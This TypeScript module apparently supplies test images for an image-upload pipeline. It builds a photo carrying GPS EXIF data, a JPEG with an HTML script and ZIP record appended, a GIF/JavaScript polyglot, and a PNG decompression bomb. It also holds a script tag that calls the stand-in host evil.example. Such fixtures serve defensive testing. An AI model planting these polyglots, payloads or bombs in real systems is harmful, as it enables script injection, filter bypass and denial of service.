import { deflateSync } from "node:zlib"
import sharp from "sharp"

/** A plain picture: orange on the left, green on the right. */
export const photo = (width = 1200, height = 900) =>
  sharp({ create: { width, height, channels: 3, background: "#EE8A1D" } }).composite([
    {
      input: { create: { width: Math.ceil(width / 2), height, channels: 3 as const, background: "#1F5138" } },
      left: Math.floor(width / 2),
      top: 0,
    },
  ])

/** A phone's picture lying on its side, with the place it was taken in its EXIF. */
export const photoWithPosition = () =>
  photo(800, 600)
    .withExif({ IFD0: { Make: "Phone", Copyright: "household" }, IFD3: { GPSLatitude: "18/1 22/1 0/1", GPSLatitudeRef: "N" } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer()

export const SCRIPT = "<script>fetch('https://evil.example')</script>"

/** Valid JPEG for a decoder, valid page and archive for whoever trusts its tail. */
export async function jpegWithPageAndArchive(): Promise<Buffer> {
  const tail = Buffer.concat([Buffer.from(`<html>${SCRIPT}</html>`), Buffer.from("PK\x05\x06" + "\0".repeat(18), "latin1")])
  return Buffer.concat([await photo(300, 200).jpeg().toBuffer(), tail])
}

/** A GIF whose bytes are also a JavaScript program, GIF89a/*…* /=1;payload. */
export async function gifWithScript(): Promise<Buffer> {
  const gif = await photo(64, 64).gif().toBuffer()
  return Buffer.concat([gif, Buffer.from(`*/=1;${SCRIPT}//`)])
}

/** 30,000 × 30,000 white pixels in a few hundred kilobytes. */
export function pngBomb(side = 30_000): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const crc = (bytes: Buffer) => {
    let c = 0xffffffff
    for (const byte of bytes) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8)
    return (c ^ 0xffffffff) >>> 0
  }
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data])
    const frame = Buffer.alloc(8 + body.length)
    frame.writeUInt32BE(data.length, 0)
    body.copy(frame, 4)
    frame.writeUInt32BE(crc(body), 4 + body.length)
    return frame
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 })
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ])
}
